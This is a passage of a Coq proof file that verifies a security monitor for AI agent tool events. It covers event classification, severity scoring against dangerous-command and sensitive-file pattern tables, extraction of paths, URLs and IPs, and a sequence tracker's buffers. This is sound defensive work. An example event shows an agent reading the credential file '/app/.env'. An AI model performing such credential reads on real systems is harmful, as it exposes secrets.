(** X1: [classify_event] only ever answers with seven of the ten
    categories: no event is classified as a file deletion, a code execution
    or an MCP tool use.  So the file edges the graph builder draws for a
    classified event are reads or writes, never deletions. *)
Theorem classify_event_range (event : Event) :
  In (classify_event event)
     [FILE_READ; FILE_WRITE; COMMAND_EXEC; NETWORK_ACCESS; SUBAGENT_SPAWN;
      SESSION_LIFECYCLE; UNKNOWN] /\
  ev_category (classify event) = classify_event event /\
  In (file_relation (ev_category (classify event))) [WRITES; READS].
Proof.
  assert (In (classify_event event)
            [FILE_READ; FILE_WRITE; COMMAND_EXEC; NETWORK_ACCESS; SUBAGENT_SPAWN;
             SESSION_LIFECYCLE; UNKNOWN]) as Hr.
  { unfold classify_event.
    destruct (tool_category (ev_tool_name event)) as [c|] eqn:Ht.
    - apply tool_category_range in Ht. simpl in *. tauto.
    - repeat match goal with |- context [if ?b then _ else _] => destruct b end;
        simpl; tauto. }
  split; [done|]. split; [done|].
  change (ev_category (classify event)) with (classify_event event).
  simpl in Hr. unfold file_relation.
  destruct Hr as [<-|[<-|[<-|[<-|[<-|[<-|[<-|[]]]]]]]]; simpl; tauto.
Qed.

(** *** Severity *)

Lemma max_severity_order a b :
  severity_order (_max_severity a b) = Nat.max (severity_order a) (severity_order b).
Proof.
  unfold _max_severity. destruct (Nat.leb_spec (severity_order b) (severity_order a)); lia.
Qed.

Lemma max_severity_cases a b : _max_severity a b = a \/ _max_severity a b = b.
Proof. unfold _max_severity. destruct (_ <=? _)%nat; auto. Qed.

(** One pass over a table: the result is at least the start and every
    severity found, and it is the start or a severity found. *)
Lemma scan_patterns_spec table text acc :
  sev_le acc (scan_patterns table text acc) /\
  (forall p sev, In (p, sev) table -> re_found true p text = true ->
                 sev_le sev (scan_patterns table text acc)) /\
  (scan_patterns table text acc = acc \/
   exists p, In (p, scan_patterns table text acc) table /\ re_found true p text = true).
Proof.
  unfold scan_patterns, sev_le. revert acc.
  induction table as [|[p sev] table IH]; intros acc; simpl.
  - split; [lia|]. split; [done | by left].
  - set (acc' := if re_found true p text then _max_severity acc sev else acc).
    destruct (IH acc') as (Hle & Hall & Hex).
    assert ((severity_order acc <= severity_order acc')%nat) as Hacc.
    { unfold acc'. destruct (re_found true p text); [rewrite max_severity_order|]; lia. }
    split; [lia|]. split.
    + intros p' sev' [[= <- <-]|Hin] Hf; [|by apply (Hall p')].
      assert ((severity_order sev <= severity_order acc')%nat); [|lia].
      unfold acc'. rewrite Hf, max_severity_order. lia.
    + destruct Hex as [Heq|(p' & Hin & Hf)]; [|right; exists p'; by split; [right|]].
      rewrite Heq. unfold acc'. destruct (re_found true p text) eqn:Hf; [|by left].
      destruct (max_severity_cases acc sev) as [->| ->]; [by left|].
      right. exists p. by split; [left|].
Qed.

Lemma scan_paths_spec table paths acc :
  let r := fold_left (fun m path => scan_patterns table path m) paths acc in
  sev_le acc r /\
  (forall path p sev, In path paths -> In (p, sev) table ->
                      re_found true p path = true -> sev_le sev r) /\
  (r = acc \/ exists path p, In path paths /\ In (p, r) table /\
                             re_found true p path = true).
Proof.
  unfold sev_le. revert acc. induction paths as [|path paths IH]; intros acc; simpl.
  - split; [lia|]. split; [done | by left].
  - destruct (scan_patterns_spec table path acc) as (Hle1 & Hall1 & Hex1).
    destruct (IH (scan_patterns table path acc)) as (Hle & Hall & Hex).
    unfold sev_le in *. split; [lia|]. split.
    + intros path' p sev [<-|Hin] Hp Hf; [|by eapply Hall].
      specialize (Hall1 p sev Hp Hf). lia.
    + destruct Hex as [Heq|(path' & p & Hin & Hp & Hf)].
      * rewrite Heq. destruct Hex1 as [->|(p & Hp & Hf)]; [by left|].
        right. exists path, p. by split; [left|].
      * right. exists path', p. by split; [right|].
Qed.

(** X2: [compute_severity] is the highest severity among what applies to
    the event: the dangerous-command patterns found in the command of a
    command execution, the sensitive-file patterns found in a scanned path,
    LOW for a network access and MEDIUM for a subagent spawn; it is INFO
    when nothing applies, and it is never above what applies. *)
Theorem compute_severity_is_maximum (event : Event) :
  let command := default "" (dict_get (tool_input_or_empty event) "command") in
  let result := compute_severity event in
  (forall p sev, ev_category event = COMMAND_EXEC ->
     In (p, sev) DANGEROUS_COMMAND_PATTERNS -> re_found true p command = true ->
     sev_le sev result) /\
  (forall path p sev, scanned_path event path ->
     In (p, sev) SENSITIVE_FILE_PATTERNS -> re_found true p path = true ->
     sev_le sev result) /\
  (ev_category event = NETWORK_ACCESS -> sev_le LOW result) /\
  (ev_category event = SUBAGENT_SPAWN -> sev_le MEDIUM result) /\
  (result = INFO \/
   (ev_category event = COMMAND_EXEC /\
    exists p, In (p, result) DANGEROUS_COMMAND_PATTERNS /\ re_found true p command = true) \/
   (exists path p, scanned_path event path /\
      In (p, result) SENSITIVE_FILE_PATTERNS /\ re_found true p path = true) \/
   (ev_category event = NETWORK_ACCESS /\ result = LOW) \/
   (ev_category event = SUBAGENT_SPAWN /\ result = MEDIUM)).
Proof.
  intros command result. unfold result, compute_severity. fold command.
  set (ti := tool_input_or_empty event).
  set (s1 := if decide (ev_category event = COMMAND_EXEC)
             then scan_patterns DANGEROUS_COMMAND_PATTERNS command INFO else INFO).
  set (paths := match str_or (dict_get ti "file_path") (dict_get ti "path") with
                | Some p => if String.eqb p "" then ev_file_paths event
                            else p :: ev_file_paths event
                | None => ev_file_paths event
                end).
  assert (forall path, scanned_path event path <-> In path paths) as Hpaths.
  { intros path. unfold scanned_path, paths. fold ti.
    destruct (str_or (dict_get ti "file_path") (dict_get ti "path")) as [p|].
    - destruct (String.eqb_spec p "") as [Hp|Hne]; simpl.
      + split; [|by right]. intros [[Heq Hn]|Hin]; [|done]. congruence.
      + split.
        * intros [[Heq _]|Hin]; [left; by injection Heq | by right].
        * intros [<-|Hin]; [by left | by right].
    - split; [|by right]. by intros [[Heq _]|Hin]. }
  set (s2 := fold_left (fun m path => scan_patterns SENSITIVE_FILE_PATTERNS path m) paths s1).
  set (s3 := if decide (ev_category event = NETWORK_ACCESS) then _max_severity s2 LOW else s2).
  set (s4 := if decide (ev_category event = SUBAGENT_SPAWN) then _max_severity s3 MEDIUM else s3).
  change (compute_severity event) with s4 in *.
  destruct (scan_patterns_spec DANGEROUS_COMMAND_PATTERNS command INFO) as (_ & Hall1 & Hex1).
  destruct (scan_paths_spec SENSITIVE_FILE_PATTERNS paths s1) as (Hle2 & Hall2 & Hex2).
  fold s2 in Hle2, Hall2, Hex2. unfold sev_le in *.
  assert ((severity_order s2 <= severity_order s3)%nat) as H23.
  { unfold s3. destruct (decide (ev_category event = NETWORK_ACCESS));
      [rewrite max_severity_order|]; lia. }
  assert ((severity_order s3 <= severity_order s4)%nat) as H34.
  { unfold s4. destruct (decide (ev_category event = SUBAGENT_SPAWN));
      [rewrite max_severity_order|]; lia. }
  split; [|split; [|split; [|split]]].
  - intros p sev Hc Hp Hf. specialize (Hall1 p sev Hp Hf).
    unfold s1 in Hle2. rewrite decide_True in Hle2 by done. lia.
  - intros path p sev Hs Hp Hf. apply Hpaths in Hs.
    specialize (Hall2 path p sev Hs Hp Hf). lia.
  - intros Hc. unfold s3 in H34. rewrite decide_True, max_severity_order in H34 by done.
    lia.
  - intros Hc. unfold s4. rewrite decide_True, max_severity_order by done. lia.
  - assert (s2 = INFO \/
            (ev_category event = COMMAND_EXEC /\
             exists p, In (p, s2) DANGEROUS_COMMAND_PATTERNS /\ re_found true p command = true) \/
            (exists path p, scanned_path event path /\
               In (p, s2) SENSITIVE_FILE_PATTERNS /\ re_found true p path = true)) as H2.
    { destruct Hex2 as [Heq|(path & p & Hin & Hp & Hf)].
      - rewrite Heq. unfold s1.
        destruct (decide (ev_category event = COMMAND_EXEC)) as [Hc|]; [|by left].
        destruct Hex1 as [->|(p & Hp & Hf)]; [by left|]. right. left. split; [done|].
        by exists p.
      - right. right. exists path, p. by rewrite Hpaths. }
    assert (s3 = s2 \/ (ev_category event = NETWORK_ACCESS /\ s3 = LOW)) as H3.
    { unfold s3. destruct (decide (ev_category event = NETWORK_ACCESS)) as [Hc|]; [|by left].
      destruct (max_severity_cases s2 LOW) as [->| ->]; auto. }
    assert (s4 = s3 \/ (ev_category event = SUBAGENT_SPAWN /\ s4 = MEDIUM)) as H4.
    { unfold s4. destruct (decide (ev_category event = SUBAGENT_SPAWN)) as [Hc|]; [|by left].
      destruct (max_severity_cases s3 MEDIUM) as [->| ->]; auto. }
    destruct H4 as [->|H4]; [|tauto]. destruct H3 as [->|H3]; [|tauto]. tauto.
Qed.

(** *** Extraction *)

Lemma list_set_spec xs :
  List.NoDup (list_set xs) /\ forall x, In x (list_set xs) <-> In x xs.
Proof.
  unfold list_set. split.
  - apply NoDup_ListNoDup, NoDup_remove_dups.
  - intros x. rewrite <- !list_elem_of_In. apply elem_of_remove_dups.
Qed.

Lemma present_values_In d ks v :
  In v (present_values d ks) <-> exists k, In k ks /\ dict_get d k = Some v.
Proof.
  unfold present_values. rewrite <- list_elem_of_In, list_elem_of_omap.
  setoid_rewrite list_elem_of_In. done.
Qed.

(** X3: the lists [enrich] stores have no duplicates and hold exactly what
    the tool input gives: the values of [file_path], [path] and
    [notebook_path], the [pattern] of a Glob, and the paths found in the
    command; the [url] and the URLs found in the command; the addresses
    found in the command and in the [url]; at most one command.  Without a
    tool input all four are empty. *)
Theorem extracted_values (event : Event) :
  let ti := tool_input_or_empty event in
  (List.NoDup (extract_file_paths event) /\
   forall p, In p (extract_file_paths event) <->
     (exists k, In k ["file_path"; "path"; "notebook_path"] /\ dict_get ti k = Some p) \/
     (ev_tool_name event = Some "Glob" /\ dict_get ti "pattern" = Some p) \/
     (exists command, dict_get ti "command" = Some command /\
                      In p (re_findall path_pattern command))) /\
  (List.NoDup (extract_urls event) /\
   forall u, In u (extract_urls event) <->
     dict_get ti "url" = Some u \/
     (exists command, dict_get ti "command" = Some command /\
                      In u (re_findall url_pattern command))) /\
  (List.NoDup (extract_ip_addresses event) /\
   forall ip, In ip (extract_ip_addresses event) <->
     (exists command, dict_get ti "command" = Some command /\
                      In ip (re_findall ipv4_pattern command)) \/
     (exists u, dict_get ti "url" = Some u /\ In ip (re_findall ipv4_pattern u))) /\
  (extract_commands event = match dict_get ti "command" with
                            | Some command => [command]
                            | None => []
                            end) /\
  (ev_tool_input event = None ->
   extract_file_paths event = [] /\ extract_urls event = [] /\
   extract_ip_addresses event = [] /\ extract_commands event = []).
Proof.
  intros ti. split; [|split; [|split; [|split]]].
  - unfold extract_file_paths. fold ti. split; [apply list_set_spec|].
    intros p. rewrite (proj2 (list_set_spec _)).
    destruct (dict_get ti "command") as [command|];
      destruct (dict_get ti "pattern") as [pat|];
      try destruct (decide (ev_tool_name event = Some "Glob"));
      rewrite ?in_app_iff, present_values_In; simpl; naive_solver.
  - unfold extract_urls. fold ti. split; [apply list_set_spec|].
    intros u. rewrite (proj2 (list_set_spec _)).
    destruct (dict_get ti "command") as [command|];
      destruct (dict_get ti "url") as [u'|];
      rewrite ?in_app_iff; simpl; naive_solver.
  - unfold extract_ip_addresses. fold ti. split; [apply list_set_spec|].
    intros ip. rewrite (proj2 (list_set_spec _)).
    destruct (dict_get ti "command") as [command|];
      destruct (dict_get ti "url") as [u'|];
      rewrite ?in_app_iff; simpl; naive_solver.
  - done.
  - intros Hnone. unfold extract_file_paths, extract_urls, extract_ip_addresses,
      extract_commands, tool_input_or_empty. by rewrite Hnone.
Qed.

Lemma classify_enrich_reads (event other : Event) :
  ev_tool_name event = ev_tool_name other ->
  ev_tool_input event = ev_tool_input other ->
  ev_hook_type event = ev_hook_type other ->
  extract_file_paths event = extract_file_paths other /\
  extract_commands event = extract_commands other /\
  extract_urls event = extract_urls other /\
  extract_ip_addresses event = extract_ip_addresses other /\
  classify_event (enrich event) = classify_event (enrich other) /\
  (forall c, extract_file_paths event = extract_file_paths other ->
     compute_severity (set_category (enrich event) c) =
     compute_severity (set_category (enrich other) c)).
Proof.
  intros Hn Hi Hh.
  assert (tool_input_or_empty event = tool_input_or_empty other) as Hti
    by (unfold tool_input_or_empty; by rewrite Hi).
  split; [|split; [|split; [|split; [|split]]]].
  - unfold extract_file_paths. by rewrite Hti, Hn.
  - unfold extract_commands. by rewrite Hti.
  - unfold extract_urls. by rewrite Hti.
  - unfold extract_ip_addresses. by rewrite Hti.
  - unfold classify_event, enrich, tool_input_or_empty.
    cbn [ev_tool_name ev_tool_input ev_hook_type]. by rewrite Hn, Hi, Hh.
  - intros c Hfp. unfold compute_severity, set_category, enrich, tool_input_or_empty.
    cbn [ev_tool_input ev_category ev_file_paths]. by rewrite Hi, Hfp.
Qed.

(** X4: what [enrich] and [classify] compute depends only on the tool
    name, the tool input and the hook type of the event: two events that
    agree on these get the same extracted lists, category and severity,
    whatever their other fields.  So a second pass over an event that was
    already enriched and classified, as the processing loop does after the
    pre-tool evaluation, changes nothing. *)
Theorem enrich_classify_idempotent (event other : Event) :
  ev_tool_name event = ev_tool_name other ->
  ev_tool_input event = ev_tool_input other ->
  ev_hook_type event = ev_hook_type other ->
  let e1 := classify (enrich event) in
  let e2 := classify (enrich other) in
  ev_file_paths e1 = ev_file_paths e2 /\ ev_commands e1 = ev_commands e2 /\
  ev_urls e1 = ev_urls e2 /\ ev_ip_addresses e1 = ev_ip_addresses e2 /\
  ev_category e1 = ev_category e2 /\ ev_severity e1 = ev_severity e2 /\
  classify (enrich e1) = e1.
Proof.
  intros Hn Hi Hh e1 e2.
  destruct (classify_enrich_reads event other Hn Hi Hh) as (Hf & Hc & Hu & Hip & Hcat & Hsev).
  split; [done|]. split; [done|]. split; [done|]. split; [done|]. split; [done|].
  split; [|done].
  change (compute_severity (set_category (enrich event) (classify_event (enrich event))) =
          compute_severity (set_category (enrich other) (classify_event (enrich other)))).
  rewrite Hcat. by apply Hsev.
Qed.

(** *** Files of a command *)

Lemma add_ok refs path role :
  In role ["writes"; "reads"; "executes"] -> refs_ok refs -> refs_ok (_add refs path role).
Proof.
  intros Hrole [Hnd Hroles]. unfold _add.
  destruct (existsb _ refs) eqn:Hex; [done|]. split.
  - rewrite map_app. simpl. apply NoDup_ListNoDup, NoDup_app.
    split; [by apply NoDup_ListNoDup|]. split; [|apply NoDup_singleton].
    intros k Hk Hk'. apply list_elem_of_In in Hk. apply list_elem_of_singleton in Hk'.
    subst k. apply in_map_iff in Hk as (r & Hr & Hin).
    assert (existsb (fun r => String.eqb (ref_path r) path && String.eqb (ref_role r) role)
                    refs = true) as Hx; [|congruence].
    apply existsb_exists. exists r. split; [done|]. injection Hr as -> ->.
    by rewrite !String.eqb_refl.
  - intros r Hin. apply in_app_or in Hin as [Hin|[<-|[]]]; [by apply Hroles | done].
Qed.

Lemma add_group1_ok pattern role keep command refs :
  In role ["writes"; "reads"; "executes"] -> refs_ok refs ->
  refs_ok (add_group1 pattern role keep command refs).
Proof.
  intros Hrole. unfold add_group1. generalize (re_finditer pattern command).
  intros ms. revert refs. induction ms as [|groups ms IH]; intros refs Hok; simpl; [done|].
  apply IH. destruct groups as [|g1 ?]; [done|]. destruct (keep g1); [|done].
  by apply add_ok.
Qed.

(** X5: the file references of a command hold no (path, role) pair twice,
    and every role is writes, reads or executes; so the relation the graph
    builder gives to the edge of a reference is the one its role names. *)
Theorem extract_command_file_refs_roles (command : string) :
  List.NoDup (map ref_key (extract_command_file_refs command)) /\
  forall r, In r (extract_command_file_refs command) ->
    (ref_role r = "writes" /\ role_relation (ref_role r) = WRITES) \/
    (ref_role r = "reads" /\ role_relation (ref_role r) = READS) \/
    (ref_role r = "executes" /\ role_relation (ref_role r) = EXECUTES).
Proof.
  assert (refs_ok (extract_command_file_refs command)) as [Hnd Hroles].
  { unfold extract_command_file_refs.
    repeat (apply add_group1_ok; [simpl; tauto|]).
    match goal with |- refs_ok (fold_left _ ?ms ?refs) =>
      assert (refs_ok refs) as Hok; [|revert Hok; generalize refs; generalize ms] end.
    - repeat (apply add_group1_ok; [simpl; tauto|]). split; [constructor | by intros ? []].
    - intros ms. induction ms as [|groups ms IH]; intros refs Hok; simpl; [done|].
      apply IH. destruct groups as [|g1 [|g2 ?]]; [done..|].
      apply add_ok; [simpl; tauto|]. apply add_ok; [simpl; tauto | done]. }
  split; [done|]. intros r Hin. specialize (Hroles r Hin). simpl in Hroles.
  destruct Hroles as [<-|[<-|[<-|[]]]]; auto.
Qed.

End ClassifierMore.

Module ClassifierExample.
Import Classifier Engine LiteralRe.

Definition read_env_1 : Event :=
  mkEvent 1%N "s1" 0 "PreToolUse" (Some "Read") (Some [("file_path", "/app/.env")])
          None UNKNOWN INFO [] [] [] [] false false None.

(** The same call seen later, in another session, already processed. *)
Definition read_env_2 : Event :=
  mkEvent 2%N "s2" 50 "PreToolUse" (Some "Read") (Some [("file_path", "/app/.env")])
          None COMMAND_EXEC CRITICAL ["x"] ["y"] [] [] true true None.

Example read_env_classified :
  ev_category (@classify literal_re (@enrich literal_re read_env_2)) = FILE_READ /\
  ev_file_paths (@classify literal_re (@enrich literal_re read_env_2)) = ["/app/.env"] /\
  ev_commands (@classify literal_re (@enrich literal_re read_env_2)) = [].
Proof. vm_compute. by repeat split. Qed.

Lemma enrich_classify_idempotent_witness :
  ev_tool_name read_env_1 = ev_tool_name read_env_2 /\
  ev_tool_input read_env_1 = ev_tool_input read_env_2 /\
  ev_hook_type read_env_1 = ev_hook_type read_env_2 /\
  let e1 := @classify literal_re (@enrich literal_re read_env_1) in
  let e2 := @classify literal_re (@enrich literal_re read_env_2) in
  ev_file_paths e1 = ev_file_paths e2 /\ ev_commands e1 = ev_commands e2 /\
  ev_urls e1 = ev_urls e2 /\ ev_ip_addresses e1 = ev_ip_addresses e2 /\
  ev_category e1 = ev_category e2 /\ ev_severity e1 = ev_severity e2 /\
  @classify literal_re (@enrich literal_re e1) = e1.
Proof.
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  exact (@enrich_classify_idempotent literal_re read_env_1 read_env_2
           eq_refl eq_refl eq_refl).
Defined.

End ClassifierExample.

(** ** More on the sequence tracker *)

Section TrackerMore.
Import Sequence.
Context `{PyRe}.

Lemma prune_suffix cutoff buf : exists k, prune cutoff buf = drop k buf.
Proof.
  induction buf as [|e buf [k IH]]; simpl; [by exists 0%nat|].
  destruct (be_timestamp e <? cutoff); [by exists (S k) | by exists 0%nat].
Qed.

Lemma prune_keeps cutoff buf e :
  In e buf -> cutoff <= be_timestamp e -> In e (prune cutoff buf).
Proof.
  induction buf as [|e0 buf IH]; simpl; [done|].
  destruct (Z.ltb_spec (be_timestamp e0) cutoff) as [Hlt|Hge]; [|done].
  intros [->|Hin] Hle; [lia | by apply IH].
Qed.

Lemma prune_In cutoff buf e : In e (prune cutoff buf) -> In e buf.
Proof.
  destruct (prune_suffix cutoff buf) as [k ->]. rewrite <- !list_elem_of_In.
  apply (subseteq_drop k buf).
Qed.

Lemma prune_last cutoff buf e :
  cutoff <= be_timestamp e -> last (prune cutoff (buf ++ [e])) = Some e.
Proof.
  intros Hle. induction buf as [|e0 buf IH]; simpl.
  - destruct (Z.ltb_spec (be_timestamp e) cutoff); [lia | done].
  - destruct (be_timestamp e0 <? cutoff); [done|].
    change (e0 :: buf ++ [e]) with ((e0 :: buf) ++ [e]). apply last_snoc.
Qed.

Lemma deque_append_length {A} maxlen (buf : list A) x :
  (length (deque_append maxlen buf x) <= maxlen)%nat.
Proof. unfold deque_append. rewrite length_drop. lia. Qed.

Lemma deque_append_last {A} maxlen (buf : list A) x :
  (0 < maxlen)%nat -> exists l, deque_append maxlen buf x = l ++ [x].
Proof.
  intros Hpos. unfold deque_append. rewrite length_app. simpl.
  rewrite drop_app_le by lia. by eexists.
Qed.

Lemma track_event_buffers t event_id sid ts data :
  _buffers (fst (track_event t event_id sid ts data)) =
  <[sid := prune (ts - seconds (max_window (_rules t)))
             (deque_append (_max_buffer_size t) (buffer_of t sid)
                           (mkBuffered event_id ts data))]> (_buffers t) /\
  _rules (fst (track_event t event_id sid ts data)) = _rules t /\
  _max_buffer_size (fst (track_event t event_id sid ts data)) = _max_buffer_size t.
Proof.
  unfold track_event, buffer_of.
  set (t1 := mkTracker _ _ _ _).
  by destruct (check_rules t1 sid ts (_rules t1) (_fired t1)) as [f ms].
Qed.

(** X6: [track_event] keeps the buffer of the session within
    [_max_buffer_size]: the new buffer is an end piece of the old one with
    the new event appended; the event just tracked is its last element
    when the size bound is positive and no rule has a negative window; the
    buffers of the other sessions, the rules and the bound stay as they
    are. *)
Theorem track_event_buffer_bound (t : SequenceTracker) (event_id : UUID)
    (session_id : string) (timestamp : datetime) (event_data : PyDict JVal) :
  let t' := fst (track_event t event_id session_id timestamp event_data) in
  let entry := mkBuffered event_id timestamp event_data in
  (length (buffer_of t' session_id) <= _max_buffer_size t)%nat /\
  (exists k, buffer_of t' session_id = drop k (buffer_of t session_id ++ [entry])) /\
  ((0 < _max_buffer_size t)%nat -> 0 <= max_window (_rules t) ->
   last (buffer_of t' session_id) = Some entry) /\
  (forall sid', sid' <> session_id -> _buffers t' !! sid' = _buffers t !! sid') /\
  _rules t' = _rules t /\
  _max_buffer_size t' = _max_buffer_size t.
Proof.
  intros t' entry.
  destruct (track_event_buffers t event_id session_id timestamp event_data)
    as (Hb & Hr & Hm).
  fold t' in Hb, Hr, Hm. fold entry in Hb.
  set (cutoff := timestamp - seconds (max_window (_rules t))) in *.
  assert (buffer_of t' session_id =
          prune cutoff (deque_append (_max_buffer_size t) (buffer_of t session_id) entry))
    as Hbuf.
  { unfold buffer_of at 1. by rewrite Hb, lookup_insert_eq. }
  split; [|split; [|split; [|split]]].
  - rewrite Hbuf. destruct (prune_suffix cutoff
      (deque_append (_max_buffer_size t) (buffer_of t session_id) entry)) as [k ->].
    rewrite length_drop. pose proof (deque_append_length (_max_buffer_size t)
      (buffer_of t session_id) entry). lia.
  - rewrite Hbuf. destruct (prune_suffix cutoff
      (deque_append (_max_buffer_size t) (buffer_of t session_id) entry)) as [k ->].
    unfold deque_append. rewrite drop_drop. by eexists.
  - intros Hpos Hw. rewrite Hbuf.
    destruct (deque_append_last (_max_buffer_size t) (buffer_of t session_id) entry Hpos)
      as [l ->].
    apply prune_last. unfold cutoff, seconds. simpl. lia.
  - intros sid' Hne. rewrite Hb. by apply lookup_insert_ne.
  - done.
Qed.

Lemma sorted_snoc buf e :
  time_ordered buf -> (forall e', In e' buf -> be_timestamp e' <= be_timestamp e) ->
  time_ordered (buf ++ [e]).
Proof.
  unfold time_ordered. induction 1 as [|e0 buf Hs IH Hall]; intros Hle; simpl.
  - repeat constructor.
  - constructor; [apply IH; intros; apply Hle; by right|].
    apply List.Forall_app. split; [done|]. constructor; [|done]. apply Hle. by left.
Qed.

Lemma sorted_drop k buf : time_ordered buf -> time_ordered (drop k buf).
Proof.
  unfold time_ordered. revert k. induction buf as [|e buf IH]; intros k Hs.
  - by rewrite drop_nil.
  - destruct k; [done|]. simpl. apply IH. by inversion Hs.
Qed.

Lemma prune_sorted_all cutoff buf e :
  time_ordered buf -> In e (prune cutoff buf) -> cutoff <= be_timestamp e.
Proof.
  unfold time_ordered. induction 1 as [|e0 buf Hs IH Hall]; simpl; [done|].
  destruct (Z.ltb_spec (be_timestamp e0) cutoff) as [Hlt|Hge]; [done|].
  intros [<-|Hin]; [done|]. rewrite List.Forall_forall in Hall.
  specialize (Hall e Hin). simpl in Hall. lia.
Qed.

(** X7: when the events of a session arrive in time order, the buffer stays
    in time order and, after [track_event], holds nothing older than the
    largest rule window before the event just tracked. *)
Theorem track_event_in_order (t : SequenceTracker) (event_id : UUID)
    (session_id : string) (timestamp : datetime) (event_data : PyDict JVal) :
  time_ordered (buffer_of t session_id) ->
  (forall e, In e (buffer_of t session_id) -> be_timestamp e <= timestamp) ->
  let t' := fst (track_event t event_id session_id timestamp event_data) in
  time_ordered (buffer_of t' session_id) /\
  (forall e, In e (buffer_of t' session_id) ->
     timestamp - seconds (max_window (_rules t)) <= be_timestamp e <= timestamp).
Proof.
  intros Hs Hle t'.
  destruct (track_event_buffers t event_id session_id timestamp event_data) as (Hb & _).
  fold t' in Hb. set (entry := mkBuffered event_id timestamp event_data) in *.
  set (cutoff := timestamp - seconds (max_window (_rules t))) in *.
  assert (buffer_of t' session_id =
          prune cutoff (deque_append (_max_buffer_size t) (buffer_of t session_id) entry))
    as ->.
  { unfold buffer_of at 1. by rewrite Hb, lookup_insert_eq. }
  assert (time_ordered (deque_append (_max_buffer_size t) (buffer_of t session_id) entry))
    as Hs1.
  { unfold deque_append. apply sorted_drop. by apply sorted_snoc. }
  split.
  - destruct (prune_suffix cutoff
      (deque_append (_max_buffer_size t) (buffer_of t session_id) entry)) as [k ->].
    by apply sorted_drop.
  - intros e Hin. split; [by eapply prune_sorted_all|].
    apply prune_In in Hin. unfold deque_append in Hin.
    apply list_elem_of_In, (subseteq_drop _ _ e), list_elem_of_In in Hin.
    apply in_app_or in Hin as [Hin|[<-|[]]]; [by apply Hle | simpl; lia].
Qed.

Lemma max_window_fold rs m :
  let r := fold_left (fun m r' => Z.max m (rule_time_window_seconds r')) rs m in
  m <= r /\ (forall r', In r' rs -> rule_time_window_seconds r' <= r) /\
  (r = m \/ exists r', In r' rs /\ r = rule_time_window_seconds r').
Proof.
  revert m. induction rs as [|r0 rs IH]; intros m; simpl.
  - split; [lia|]. split; [done | by left].
  - destruct (IH (Z.max m (rule_time_window_seconds r0))) as (Hle & Hall & Hex).
    split; [lia|]. split.
    + intros r' [<-|Hin]; [lia | by apply Hall].
    + destruct Hex as [Heq|(r' & Hin & Heq)]; [|right; exists r'; by split; [right|]].
      destruct (Z.max_spec m (rule_time_window_seconds r0)) as [[_ Hm]|[_ Hm]];
        rewrite Hm in *; [|by left].
      right. exists r0. by split; [left|].
Qed.

Lemma max_window_spec rules :
  (rules = [] -> max_window rules = 300) /\
  (forall r, In r rules -> rule_time_window_seconds r <= max_window rules) /\
  (rules <> [] -> exists r, In r rules /\ max_window rules = rule_time_window_seconds r).
Proof.
  destruct rules as [|r0 rs]; simpl.
  - split; [done|]. split; [done | by intros []].
  - destruct (max_window_fold rs (rule_time_window_seconds r0)) as (Hle & Hall & Hex).
    split; [done|]. split.
    + intros r [<-|Hin]; [done | by apply Hall].
    + intros _. destruct Hex as [Heq|(r' & Hin & Heq)].
      * exists r0. by split; [left|].
      * exists r'. by split; [right|].
Qed.

Lemma filter_prune cutoff cutoff' buf :
  cutoff <= cutoff' ->
  List.filter (fun e => cutoff' <=? be_timestamp e) (prune cutoff buf) =
  List.filter (fun e => cutoff' <=? be_timestamp e) buf.
Proof.
  intros Hle. induction buf as [|e buf IH]; simpl; [done|].
  destruct (Z.ltb_spec (be_timestamp e) cutoff) as [Hlt|Hge]; [|done].
  rewrite IH. destruct (Z.leb_spec cutoff' (be_timestamp e)); [lia | done].
Qed.

(** X8: the pruning in [track_event] is invisible to the rules.  The cut is
    the largest window of the loaded rules (300 seconds when there is no
    rule), so every event it drops is outside the window of every loaded
    rule, and each loaded rule answers on the pruned buffer what it would
    answer on the buffer before pruning. *)
Theorem prune_loses_no_match (t : SequenceTracker) (session_id : string)
    (timestamp : datetime) (buf : list _BufferedEvent) (rule : SequenceRule) :
  In rule (_rules t) ->
  let cutoff := timestamp - seconds (max_window (_rules t)) in
  let pruned := mkTracker (_rules t) (<[session_id := prune cutoff buf]> (_buffers t))
                          (_max_buffer_size t) (_fired t) in
  let kept := mkTracker (_rules t) (<[session_id := buf]> (_buffers t))
                        (_max_buffer_size t) (_fired t) in
  (forall e, In e buf -> ~ In e (prune cutoff buf) ->
     be_timestamp e < timestamp - seconds (rule_time_window_seconds rule)) /\
  _check_rule pruned rule session_id timestamp = _check_rule kept rule session_id timestamp.
Proof.
  intros Hin cutoff pruned kept.
  assert (cutoff <= timestamp - seconds (rule_time_window_seconds rule)) as Hle.
  { destruct (max_window_spec (_rules t)) as (_ & Hall & _). specialize (Hall rule Hin).
    unfold cutoff, seconds. lia. }
  split.
  - intros e He Hn.
    destruct (Z.lt_ge_cases (be_timestamp e) cutoff) as [Hlt|Hge]; [lia|].
    destruct Hn. by apply prune_keeps.
  - unfold _check_rule, pruned, kept. simpl. rewrite !lookup_insert_eq.
    rewrite (filter_prune cutoff _ buf Hle).
    destruct (prune cutoff buf) as [|e0 b0] eqn:Hp.
    + pose proof (filter_prune cutoff _ buf Hle) as Hf. rewrite Hp in Hf. simpl in Hf.
      rewrite <- Hf. by destruct buf.
    + destruct buf as [|e1 b1]; [done|]. done.
Qed.

Lemma check_rules_matches t sid now rules fired fired' ms rule result :
  check_rules t sid now rules fired = (fired', ms) ->
  In (rule, result) ms ->
  In rule rules /\ _check_rule t rule sid now = Some result.
Proof.
  revert fired fired' ms. induction rules as [|r rules IH]; intros fired fired' ms; simpl.
  - by intros [= <- <-].
  - destruct (_check_rule t r sid now) as [res|] eqn:Hc.
    + case_decide.
      * intros Hr Hin. destruct (IH _ _ _ Hr Hin). auto.
      * destruct (check_rules t sid now rules _) as [f' ms'] eqn:Hrec.
        intros [= <- <-] [[= <- <-]|Hin]; [auto|].
        destruct (IH _ _ _ Hrec Hin). auto.
    + intros Hr Hin. destruct (IH _ _ _ Hr Hin). auto.
Qed.

(** X9: [load_rules] keeps the enabled rules of the list, in order, and
    leaves the buffers and the fired set alone; every match [track_event]
    then returns is for an enabled rule of the list and holds exactly one
    buffered event per step of that rule. *)
Theorem load_rules_only_enabled (t : SequenceTracker) (rules : list SequenceRule)
    (event_id : UUID) (session_id : string) (timestamp : datetime)
    (event_data : PyDict JVal) :
  let t1 := load_rules t rules in
  _rules t1 = List.filter rule_enabled rules /\
  _buffers t1 = _buffers t /\ _fired t1 = _fired t /\
  (forall rule result,
     In (rule, result) (snd (track_event t1 event_id session_id timestamp event_data)) ->
     In rule rules /\ rule_enabled rule = true /\
